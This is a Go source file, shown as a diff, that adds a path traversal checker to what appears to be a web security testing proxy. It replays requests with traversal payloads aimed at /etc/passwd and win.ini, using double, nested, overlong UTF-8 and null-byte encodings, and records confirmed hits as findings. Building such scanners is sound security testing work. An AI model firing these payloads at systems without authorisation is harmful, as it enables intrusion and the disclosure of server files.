@@ -0,0 +1,292 @@
+package traversal
+
+import (
+	"context"
+	"database/sql"
+	"fmt"
+	"log"
+	"net/http"
+	"net/url"
+	"path"
+	"regexp"
+	"strings"
+	"time"
+
+	findings "prokzee/internal/findings"
+	"prokzee/internal/probe"
+	"prokzee/internal/upstream"
+)
+
+// Source identifies findings created by the path traversal checker
+const Source = "path-traversal"
+
+// maxResponseBody bounds how much of a response is searched for markers
+const maxResponseBody = 512 * 1024
+
+// depth is how many directories the traversal sequences climb
+const depth = 8
+
+// Platforms of the files read
+const (
+	PlatformUnix    = "unix"
+	PlatformWindows = "windows"
+)
+
+// Canary is a file present on every server of a platform and the pattern that
+// proves its content was returned
+type Canary struct {
+	Platform string
+	Path     string
+	Marker   *regexp.Regexp
+}
+
+// Canaries are the files the traversal sequences aim for
+var Canaries = []Canary{
+	{Platform: PlatformUnix, Path: "etc/passwd", Marker: regexp.MustCompile(`(?m)^root:[^:\n]*:0:0:[^\n]*$`)},
+	{Platform: PlatformWindows, Path: "windows/win.ini", Marker: regexp.MustCompile(`(?is)\[fonts\].*\[extensions\]|; for 16-bit app support`)},
+}
+
+// Encoding is a way of writing a traversal sequence past filters
+type Encoding struct {
+	Name   string
+	Encode func(sequence, file string, backslash bool) string
+}
+
+// Encodings are the variants tried for each canary, the raw form first
+var Encodings = []Encoding{
+	{Name: "plain", Encode: func(sequence, file string, backslash bool) string {
+		return url.QueryEscape(sequence + separate(file, backslash))
+	}},
+	{Name: "absolute", Encode: func(sequence, file string, backslash bool) string {
+		if backslash {
+			return url.QueryEscape(`C:\` + separate(file, true))
+		}
+		return url.QueryEscape("/" + file)
+	}},
+	{Name: "url-encoded", Encode: func(sequence, file string, backslash bool) string {
+		return encodeAll(sequence + separate(file, backslash))
+	}},
+	{Name: "double-encoded", Encode: func(sequence, file string, backslash bool) string {
+		return strings.ReplaceAll(encodeAll(sequence+separate(file, backslash)), "%", "%25")
+	}},
+	{Name: "nested", Encode: func(sequence, file string, backslash bool) string {
+		// Filters removing ../ once leave ../ behind
+		nested := strings.ReplaceAll(strings.ReplaceAll(sequence, "../", "....//"), `..\`, `....\\`)
+		return url.QueryEscape(nested + separate(file, backslash))
+	}},
+	{Name: "overlong UTF-8", Encode: func(sequence, file string, backslash bool) string {
+		return strings.ReplaceAll(encodeAll(sequence), "%2E", "%C0%AE") + url.QueryEscape(separate(file, backslash))
+	}},
+}
+
+// namePattern recognizes parameters that name files and paths
+var namePattern = regexp.MustCompile(`(?i)file|path|page|doc|template|tpl|include|inc|dir|folder|load|download|view|read|show|src|resource|lang|locale|style|image|img`)
+
+// valuePattern recognizes values that look like a file name or path
+var valuePattern = regexp.MustCompile(`(?i)(?:^|/|%2f)[\w.-]+\.[a-z0-9]{1,5}$|/|%2f|\\`)
+
+// Hit is a traversal that returned the content of a canary file
+type Hit struct {
+	Parameter string `json:"parameter"`
+	Location  string `json:"location"` // query or body
+	Platform  string `json:"platform"`
+	Encoding  string `json:"encoding"`
+	Payload   string `json:"payload"`
+	Status    int    `json:"status"`
+	Evidence  string `json:"evidence"`
+}
+
+// Result is the outcome of checking a request
+type Result struct {
+	RequestID  int      `json:"requestId"`
+	URL        string   `json:"url"`
+	Parameters []string `json:"parameters"` // parameters that were tried
+	Platforms  []string `json:"platforms"`
+	Hits       []Hit    `json:"hits"`
+}
+
+// Checker replays a request with traversal sequences in its parameters
+type Checker struct {
+	db       *sql.DB
+	findings *findings.Client
+	client   *http.Client
+}
+
+// NewChecker creates a new path traversal checker
+func NewChecker(db *sql.DB, findingsClient *findings.Client) *Checker {
+	return &Checker{
+		db:       db,
+		findings: findingsClient,
+		client: &http.Client{
+			Timeout:   20 * time.Second,
+			Transport: upstream.NewHTTPTransport(false),
+			CheckRedirect: func(req *http.Request, via []*http.Request) error {
+				return http.ErrUseLastResponse
+			},
+		},
+	}
+}
+
+// Run replaces the selected query and form body parameters of a stored
+// request, or those that look like file names when names is empty, with
+// traversal sequences towards canary files and reports the ones whose content
+// comes back. A marker already present in the original response never counts.
+func (c *Checker) Run(ctx context.Context, requestID int, names []string) (*Result, error) {
+	stored, err := probe.LoadParams(c.db, requestID)
+	if err != nil {
+		return nil, err
+	}
+
+	_, baseline, err := stored.Send(ctx, c.client, stored.Query, stored.Form, maxResponseBody)
+	if err != nil {
+		return nil, fmt.Errorf("baseline request failed: %v", err)
+	}
+
+	selected := make(map[string]bool)
+	for _, name := range names {
+		selected[name] = true
+	}
+
+	result := &Result{
+		RequestID:  requestID,
+		URL:        stored.Target.String(),
+		Parameters: []string{},
+		Platforms:  platforms(stored.ResponseHeader.Get("Server") + " " + stored.ResponseHeader.Get("X-Powered-By")),
+		Hits:       []Hit{},
+	}
+
+	for _, location := range []string{probe.LocationQuery, probe.LocationBody} {
+		pairs := stored.Query
+		if location == probe.LocationBody {
+			pairs = stored.Form
+		}
+		for i, p := range pairs {
+			if len(selected) > 0 && !selected[p.Name] {
+				continue
+			}
+			if len(selected) == 0 && !namePattern.MatchString(p.Name) && !valuePattern.MatchString(p.Value) {
+				continue
+			}
+			result.Parameters = append(result.Parameters, p.Name)
+			if hit := c.tryParam(ctx, stored, location, i, baseline, result.Platforms); hit != nil {
+				result.Hits = append(result.Hits, *hit)
+			}
+			if ctx.Err() != nil {
+				return result, nil
+			}
+		}
+	}
+	if len(result.Parameters) == 0 {
+		return nil, fmt.Errorf("request %d has no parameter that looks like a file name, select the parameters to test", requestID)
+	}
+
+	for _, hit := range result.Hits {
+		c.record(stored, requestID, hit)
+	}
+	return result, nil
+}
+
+// tryParam sends the traversal payloads for one parameter and stops at the
+// first one that returns a canary
+func (c *Checker) tryParam(ctx context.Context, stored *probe.Request, location string, index int, baseline []byte, platformOrder []string) *Hit {
+	pairs := stored.Query
+	if location == probe.LocationBody {
+		pairs = stored.Form
+	}
+	original := pairs[index]
+	// A file extension the application appends is cut off with a null byte
+	ext := path.Ext(probe.Decode(original.Value))
+
+	for _, platform := range platformOrder {
+		backslash := platform == PlatformWindows
+		sequence := strings.Repeat("../", depth)
+		if backslash {
+			sequence = strings.Repeat(`..\`, depth)
+		}
+		for _, canary := range Canaries {
+			if canary.Platform != platform || canary.Marker.Match(baseline) {
+				continue
+			}
+			for _, encoding := range Encodings {
+				payloads := []string{encoding.Encode(sequence, canary.Path, backslash)}
+				if ext != "" && encoding.Name == "plain" {
+					payloads = append(payloads, payloads[0]+"%00"+url.QueryEscape(ext))
+				}
+				for _, payload := range payloads {
+					if ctx.Err() != nil {
+						return nil
+					}
+					status, body, err := stored.SendVariant(ctx, c.client, location, probe.ReplaceAt(pairs, index, probe.Pair{Name: original.Name, Value: payload}), maxResponseBody)
+					if err != nil {
+						continue
+					}
+					if match := canary.Marker.Find(body); match != nil {
+						return &Hit{
+							Parameter: original.Name,
+							Location:  location,
+							Platform:  platform,
+							Encoding:  encoding.Name,
+							Payload:   payload,
+							Status:    status,
+							Evidence:  evidence(match),
+						}
+					}
+				}
+			}
+		}
+	}
+	return nil
+}
+
+// record stores a confirmed traversal as a finding
+func (c *Checker) record(stored *probe.Request, requestID int, hit Hit) {
+	err := c.findings.AddFinding(findings.Finding{
+		Source:    Source,
+		Host:      stored.Target.Hostname(),
+		URL:       stored.Target.String(),
+		RequestID: requestID,
+		Title:     fmt.Sprintf("Path traversal in %s parameter %s", hit.Location, hit.Parameter),
+		Severity:  findings.SeverityHigh,
+		Detail: fmt.Sprintf("The %s payload %s returned the content of a %s system file (status %d)\nEvidence: %s",
+			hit.Encoding, hit.Payload, hit.Platform, hit.Status, hit.Evidence),
+		Key: stored.Method + "|" + stored.Target.Host + stored.Target.Path + "|" + hit.Location + "|" + hit.Parameter,
+	})
+	if err != nil {
+		log.Printf("Failed to record path traversal finding: %v", err)
+	}
+}
+
+// platforms orders the platforms to try by what the server says it runs on
+func platforms(server string) []string {
+	server = strings.ToLower(server)
+	if strings.Contains(server, "iis") || strings.Contains(server, "asp.net") || strings.Contains(server, "win") {
+		return []string{PlatformWindows, PlatformUnix}
+	}
+	return []string{PlatformUnix, PlatformWindows}
+}
+
+// evidence trims a marker match for display, without dumping the whole file
+func evidence(match []byte) string {
+	line := strings.SplitN(string(match), "\n", 2)[0]
+	if len(line) > 120 {
+		line = line[:120] + "..."
+	}
+	return line
+}
+
+// separate writes a file path with backslashes for Windows
+func separate(file string, backslash bool) string {
+	if backslash {
+		return strings.ReplaceAll(file, "/", `\`)
+	}
+	return file
+}
+
+// encodeAll percent-encodes every byte of s, letters included
+func encodeAll(s string) string {
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		fmt.Fprintf(&b, "%%%02X", s[i])
+	}
+	return b.String()
+}